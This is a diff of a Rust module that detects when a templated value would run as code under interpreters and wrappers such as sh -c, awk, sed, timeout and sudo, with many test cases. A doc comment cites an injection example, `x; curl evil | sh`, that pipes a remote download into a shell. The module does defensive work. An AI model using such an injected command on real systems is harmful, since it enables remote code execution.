@@ -1,6 +1,8 @@
 //! Words a program runs as code: the word after `sh -c`, `python3 -c`,
-//! `perl -e`, `node -e`, and the command `env` runs. A value in one of
-//! them would be code (`x; curl evil | sh`), whatever word it stays in.
+//! `perl -e`, `node -e`, `sed -e`; and the words that choose what runs: an
+//! interpreter's script (`python3 app.py`), awk's and sed's program text,
+//! and the command `env`, `timeout`, `nice`, `sudo`... run. A value in one
+//! of them would be code (`x; curl evil | sh`) or any program or file.
 
 /// A program that runs code given on its command line.
 struct Interpreter {
@@ -32,8 +34,17 @@ struct Interpreter {
     code_is_operand: bool,
     /// Whether options may start with `+` too (`+o pipefail`).
     plus_options: bool,
-    /// Whether the program runs a command given by its first word that is
-    /// not an option or a `NAME=value` (`env`).
+    /// Short options after which the program reads its code from stdin,
+    /// so that the words after the options are arguments (`sh -s`).
+    stdin_letters: &'static str,
+    /// Words that are not options to skip before the one that runs
+    /// (`timeout`'s duration, `flock`'s lock file, `chroot`'s root).
+    leading_operands: usize,
+    /// Whether `NAME=value` words before the one that runs are skipped
+    /// (`env`, `sudo`).
+    assignments: bool,
+    /// Whether the word that runs is a command, itself a program (`env`,
+    /// `timeout`), rather than a script or program text.
     runs_commands: bool,
 }
 
@@ -50,6 +61,9 @@ const NONE: Interpreter = Interpreter {
     code_ends_options: false,
     code_is_operand: false,
     plus_options: false,
+    stdin_letters: "",
+    leading_operands: 0,
+    assignments: false,
     runs_commands: false,
 };
 
@@ -88,7 +102,8 @@ const INTERPRETERS: &[Interpreter] = &[
         code_options: &["--command"],
         value_letters: "oO",
         value_options: &["--rcfile", "--init-file"],
-        flag_letters: "abefhikmnprstuvxBCDEHP",
+        flag_letters: "abefhikmnprtuvxBCDEHP",
+        stdin_letters: "s",
         flag_options: &["--login", "--noprofile", "--norc", "--posix", "--restricted", "--verbose"],
         code_is_operand: true,
         plus_options: true,
@@ -191,6 +206,168 @@ const INTERPRETERS: &[Interpreter] = &[
         value_options: &["--unset", "--chdir"],
         flag_letters: "iv",
         flag_options: &["--ignore-environment", "--null", "--debug"],
+        assignments: true,
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter {
+        names: &["awk", "gawk", "mawk", "nawk"],
+        // Program files (`-f`, `-E`), included source, loaded extensions.
+        code_letters: "feilE",
+        code_options: &["--file", "--source", "--include", "--load", "--exec"],
+        value_letters: "vFW",
+        value_options: &["--assign", "--field-separator"],
+        flag_letters: "bcCghMNOPrsStVn",
+        attached_letters: "odDLp",
+        ..NONE
+    },
+    // GNU sed's `e` command runs its text as a shell command.
+    Interpreter {
+        names: &["sed", "gsed"],
+        code_letters: "ef",
+        code_options: &["--expression", "--file"],
+        value_letters: "l",
+        value_options: &["--line-length"],
+        flag_letters: "nErsuzb",
+        flag_options: &[
+            "--quiet",
+            "--silent",
+            "--regexp-extended",
+            "--separate",
+            "--unbuffered",
+            "--null-data",
+            "--debug",
+            "--posix",
+            "--sandbox",
+            "--follow-symlinks",
+            "--in-place",
+        ],
+        attached_letters: "i",
+        ..NONE
+    },
+    Interpreter {
+        names: &["timeout"],
+        value_letters: "sk",
+        value_options: &["--signal", "--kill-after"],
+        flag_letters: "v",
+        flag_options: &["--preserve-status", "--foreground", "--verbose"],
+        leading_operands: 1,
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter { names: &["nice"], value_letters: "n", value_options: &["--adjustment"], runs_commands: true, ..NONE },
+    Interpreter { names: &["nohup"], runs_commands: true, ..NONE },
+    Interpreter {
+        names: &["stdbuf"],
+        value_letters: "ioe",
+        value_options: &["--input", "--output", "--error"],
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter {
+        names: &["setsid"],
+        flag_letters: "cfw",
+        flag_options: &["--ctty", "--fork", "--wait"],
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter {
+        names: &["ionice"],
+        value_letters: "cnpPu",
+        value_options: &["--class", "--classdata", "--pid", "--pgid", "--uid"],
+        flag_letters: "t",
+        flag_options: &["--ignore"],
+        runs_commands: true,
+        ..NONE
+    },
+    // The priority comes before the command.
+    Interpreter {
+        names: &["chrt"],
+        value_letters: "TPD",
+        value_options: &["--sched-runtime", "--sched-period", "--sched-deadline"],
+        flag_letters: "abdefiormpRv",
+        leading_operands: 1,
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter {
+        names: &["xargs"],
+        value_letters: "adEILnPs",
+        value_options: &["--arg-file", "--delimiter", "--max-args", "--max-procs", "--max-chars", "--process-slot-var"],
+        flag_letters: "oprtx",
+        flag_options: &["--null", "--no-run-if-empty", "--verbose", "--exit", "--interactive", "--open-tty"],
+        attached_letters: "eil",
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter {
+        names: &["sudo"],
+        value_letters: "ugCDhprRtTU",
+        value_options: &[
+            "--user",
+            "--group",
+            "--close-from",
+            "--chdir",
+            "--host",
+            "--prompt",
+            "--role",
+            "--type",
+            "--command-timeout",
+            "--other-user",
+            "--chroot",
+        ],
+        flag_letters: "AbBEHiKklnPSsVv",
+        flag_options: &[
+            "--askpass",
+            "--background",
+            "--set-home",
+            "--login",
+            "--non-interactive",
+            "--stdin",
+            "--shell",
+        ],
+        assignments: true,
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter { names: &["exec"], value_letters: "a", flag_letters: "cl", runs_commands: true, ..NONE },
+    Interpreter { names: &["command"], flag_letters: "pvV", runs_commands: true, ..NONE },
+    Interpreter {
+        names: &["time"],
+        value_letters: "fo",
+        value_options: &["--format", "--output"],
+        flag_letters: "apvq",
+        flag_options: &["--append", "--portability", "--verbose", "--quiet"],
+        runs_commands: true,
+        ..NONE
+    },
+    // `flock FILE -c CODE` runs CODE with a shell.
+    Interpreter {
+        names: &["flock"],
+        code_letters: "c",
+        code_options: &["--command"],
+        value_letters: "wE",
+        value_options: &["--wait", "--timeout", "--conflict-exit-code"],
+        flag_letters: "sexnuoFv",
+        flag_options: &[
+            "--shared",
+            "--exclusive",
+            "--nonblock",
+            "--nb",
+            "--unlock",
+            "--close",
+            "--no-fork",
+            "--verbose",
+        ],
+        leading_operands: 1,
+        runs_commands: true,
+        ..NONE
+    },
+    Interpreter {
+        names: &["chroot"],
+        value_options: &["--userspec", "--groups"],
+        flag_options: &["--skip-chdir"],
+        leading_operands: 1,
         runs_commands: true,
         ..NONE
     },
@@ -205,47 +382,86 @@ pub struct CodeWord {
     pub word: String,
 }
 
+/// What [`code_word`] found.
+enum Found<'a> {
+    /// The word that runs as code, or chooses what runs, with a placeholder.
+    Value(&'a String),
+    /// Nothing; the command the program runs is the word at this index.
+    Command(usize),
+    /// Nothing.
+    Nothing,
+}
+
 /// The first word of `words` (a template split into argv words) that an
-/// interpreter among them runs as code and `has_placeholder`, or the
-/// placeholder word `env` would run as its command.
+/// interpreter among them runs as code and `has_placeholder`, or that
+/// chooses what runs where the program is the command's (the first word,
+/// or the command a wrapper such as `env` or `timeout` runs): the script of
+/// `python3 {p}`, the program text of `awk '{p}'`, the command of `env {p}`.
+/// Code options are looked for after every word, the program's or not
+/// (`ssh host sh -c '{p}'`).
 pub fn value_as_code(words: &[String], has_placeholder: impl Fn(&str) -> bool) -> Option<CodeWord> {
-    words.iter().enumerate().find_map(|(at, program)| {
-        let word = code_word(interpreter(program)?, &words[at + 1..], &has_placeholder)?;
-        Some(CodeWord { program: program.clone(), word: word.clone() })
-    })
+    let mut command_at = 0;
+    for (at, program) in words.iter().enumerate() {
+        let Some(interpreter) = interpreter(program) else { continue };
+        match code_word(interpreter, &words[at + 1..], at == command_at, &has_placeholder) {
+            Found::Value(word) => return Some(CodeWord { program: program.clone(), word: word.clone() }),
+            Found::Command(offset) if at == command_at => command_at = at + 1 + offset,
+            Found::Command(_) | Found::Nothing => {}
+        }
+    }
+    None
 }
 
 /// The word of `args` (what follows the program's word) that `interpreter`
-/// runs as code and `has_placeholder`. The first word that is neither an
-/// option nor a known option's value ends the options (a script's name:
-/// what follows is the script's), and so does the code where
-/// `code_ends_options`. An option not in the table (neither a flag nor
-/// one with a value) may take the next word as its value, so that word
-/// does not end the options: a code option after it is still seen (a
-/// false refusal is safer than a missed one).
+/// runs as code and `has_placeholder`; where `is_command` (the program is
+/// the command's), also the first word that is neither an option nor a
+/// known option's value (past the `leading_operands`), what the program
+/// runs unless a code option was given: a script, program text, a
+/// command (whose index is returned when it has no placeholder). That
+/// word ends the options (what follows is the script's), and so does the
+/// code where `code_ends_options`. An option not in the table (neither a
+/// flag nor one with a value) may take the next word as its value, so
+/// that word does not end the options: a code option after it is still
+/// seen, and a placeholder in it or in a leading operand after it is
+/// refused as the word that may run (a false refusal is safer than a
+/// missed one).
 fn code_word<'a>(
     interpreter: &Interpreter,
     args: &'a [String],
+    is_command: bool,
     has_placeholder: &impl Fn(&str) -> bool,
-) -> Option<&'a String> {
+) -> Found<'a> {
     let (mut code_pending, mut code_seen, mut maybe_value, mut options_ended) = (false, false, false, false);
+    let (mut operands, mut was_maybe_value) = (0, false);
     let mut words = args.iter();
     while let Some(word) = words.next() {
+        let at = args.len() - words.len() - 1;
         let signed = word.starts_with('-') || (interpreter.plus_options && word.starts_with('+'));
         if options_ended || !signed || word.len() < 2 {
             if code_pending {
-                return has_placeholder(word).then_some(word);
+                return if has_placeholder(word) { Found::Value(word) } else { Found::Nothing };
             }
-            if interpreter.runs_commands && !code_seen && !options_ended && word.contains('=') {
+            let runs = is_command && !code_seen;
+            if runs && interpreter.assignments && !options_ended && word.contains('=') {
                 continue;
             }
-            if interpreter.runs_commands && !code_seen && has_placeholder(word) {
-                return Some(word);
-            }
-            if std::mem::take(&mut maybe_value) && !options_ended {
+            let maybe = std::mem::take(&mut maybe_value) && !options_ended;
+            was_maybe_value |= maybe;
+            if runs && (maybe || operands < interpreter.leading_operands) {
+                if has_placeholder(word) && (maybe || was_maybe_value) {
+                    return Found::Value(word);
+                }
+                operands += usize::from(!maybe);
                 continue;
             }
-            return None;
+            if maybe {
+                continue;
+            }
+            return match runs {
+                true if has_placeholder(word) => Found::Value(word),
+                true if interpreter.runs_commands => Found::Command(at),
+                _ => Found::Nothing,
+            };
         }
         maybe_value = false;
         if word == "--" {
@@ -266,24 +482,24 @@ fn code_word<'a>(
                 None
             }
         } else {
-            short_code(interpreter, word, &mut words, &mut maybe_value)
+            short_code(interpreter, word, &mut words, &mut maybe_value, &mut code_seen)
         };
         match is_code {
             // The code is attached (`-c{code}`, `--eval={code}`).
-            Some(true) if has_placeholder(word) => return Some(word),
-            Some(true) if interpreter.code_ends_options => return None,
+            Some(true) if has_placeholder(word) => return Found::Value(word),
+            Some(true) if interpreter.code_ends_options => return Found::Nothing,
             Some(true) => code_seen = true,
             Some(false) if interpreter.code_is_operand => code_pending = true,
             // The code is the next word.
             Some(false) => match words.next() {
-                Some(next) if has_placeholder(next) => return Some(next),
-                _ if interpreter.code_ends_options => return None,
+                Some(next) if has_placeholder(next) => return Found::Value(next),
+                _ if interpreter.code_ends_options => return Found::Nothing,
                 _ => code_seen = true,
             },
             None => {}
         }
     }
-    None
+    Found::Nothing
 }
 
 /// For a word of bundled short options: whether it has a code option, with
@@ -291,12 +507,14 @@ fn code_word<'a>(
 /// first one that takes a value (its value is the rest of the word, else,
 /// but for an attached-only one, the next word of `words`, taken) or that
 /// is not a letter; `maybe_value` is set when the last letter is one the
-/// table does not know.
+/// table does not know, `stdin` when a letter says the code comes from
+/// stdin.
 fn short_code<'a>(
     interpreter: &Interpreter,
     word: &str,
     words: &mut impl Iterator<Item = &'a String>,
     maybe_value: &mut bool,
+    stdin: &mut bool,
 ) -> Option<bool> {
     let mut code = None;
     for (at, letter) in word.char_indices().skip(1) {
@@ -316,6 +534,10 @@ fn short_code<'a>(
                 words.next();
             }
             return code;
+        }
+        if interpreter.stdin_letters.contains(letter) {
+            *stdin = true;
+            continue;
         }
         if interpreter.attached_letters.contains(letter) {
             return code;
@@ -390,6 +612,52 @@ mod tests {
             ("python3 -Q new -c {p}", "python3 {p}"),
             ("node --unknown-flag app.js -e {p}", "node {p}"),
             ("bun --inspect app.js -e {p}", "bun {p}"),
+            // The script an interpreter runs.
+            ("bash {p}", "bash {p}"),
+            ("bash -- {p}", "bash {p}"),
+            ("sh -x {p} a", "sh {p}"),
+            ("python3 {p}", "python3 {p}"),
+            ("python3 -u {p}.py", "python3 {p}.py"),
+            ("perl -w {p}", "perl {p}"),
+            ("ruby -I lib {p}", "ruby {p}"),
+            ("node --inspect {p}", "node {p}"),
+            ("php -f {p}", "php {p}"),
+            ("php {p}", "php {p}"),
+            ("lua {p}", "lua {p}"),
+            ("Rscript {p}", "Rscript {p}"),
+            // An unknown option's possible value may be the script.
+            ("python3 -Q {p}", "python3 {p}"),
+            // awk's and sed's program text, as the first word or an option's value.
+            ("awk '{print $1, \"{p}\"}' file", "awk {print $1, \"{p}\"}"),
+            ("gawk -F, -v x=1 '/{p}/' file", "gawk /{p}/"),
+            ("awk -f {p} file", "awk {p}"),
+            ("sed -n 's/{p}/x/p' file", "sed s/{p}/x/p"),
+            ("sed -i.bak -E 's/{p}/x/' file", "sed s/{p}/x/"),
+            ("sed -e 1d --expression={p} file", "sed --expression={p}"),
+            // Wrappers run the command they are given.
+            ("timeout 5 {p}", "timeout {p}"),
+            ("timeout -s KILL -k 2 --preserve-status 5 {p} x", "timeout {p}"),
+            ("nice {p}", "nice {p}"),
+            ("nice -n 5 {p}", "nice {p}"),
+            ("nohup {p}", "nohup {p}"),
+            ("stdbuf -oL -e 0 {p}", "stdbuf {p}"),
+            ("setsid -w {p}", "setsid {p}"),
+            ("ionice -c 3 -n 7 {p}", "ionice {p}"),
+            ("chrt -r 5 {p}", "chrt {p}"),
+            ("xargs -0 -n 1 {p}", "xargs {p}"),
+            ("sudo -u nobody HOME=/tmp {p}", "sudo {p}"),
+            ("exec -a name {p}", "exec {p}"),
+            ("command -p {p}", "command {p}"),
+            ("time -f %e {p}", "time {p}"),
+            ("flock -w 3 /tmp/l {p}", "flock {p}"),
+            ("flock /tmp/l -c {p}", "flock {p}"),
+            ("chroot --userspec=1:1 / {p}", "chroot {p}"),
+            // What a wrapper runs is the command's program, wrapped again too.
+            ("nice -n 5 timeout 5 python3 {p}", "python3 {p}"),
+            ("env A=1 xargs awk '{p}'", "awk {p}"),
+            // An interpreter a wrapper runs is read as ever.
+            ("timeout 5 sh -c '{p}'", "sh {p}"),
+            ("sudo -u nobody bash -lc 'echo {p}'", "bash echo {p}"),
         ];
         for (command, expected) in cases {
             assert_eq!(code_in(command).as_deref(), Some(expected), "{command}");
@@ -405,7 +673,6 @@ mod tests {
             "perl script.pl -e {p}",
             "env FOO={p} python3 a.py",
             "grep -e {p} file",
-            "bash -- {p}",
             "sh -c 'echo \"$1\"' -- {p}",
             "env -S 'python3 a.py' {p}",
             "perl -Mstrict script.pl {p}",
@@ -427,6 +694,21 @@ mod tests {
             "lua -i app.lua -e {p}",
             "php -n app.php -r {p}",
             "Rscript --vanilla app.R -e {p}",
+            // Arguments after the script, code or program text.
+            "bash script.sh {p}",
+            "bash -s {p}",
+            "python3 - {p}",
+            "awk -F: '{print $1}' {p}",
+            "awk -f prog.awk {p}",
+            "sed -e 's/a/b/' {p}",
+            "sed 's/a/b/' {p}",
+            "timeout {p} sleep 1",
+            "flock {p} true",
+            "nice -n {p} python3 app.py",
+            "sudo -u {p} true",
+            // What runs is chosen by the first word's program, not any word.
+            "grep -e python3 {p}",
+            "echo timeout 5 {p}",
         ] {
             assert_eq!(code_in(command), None, "{command}");
         }
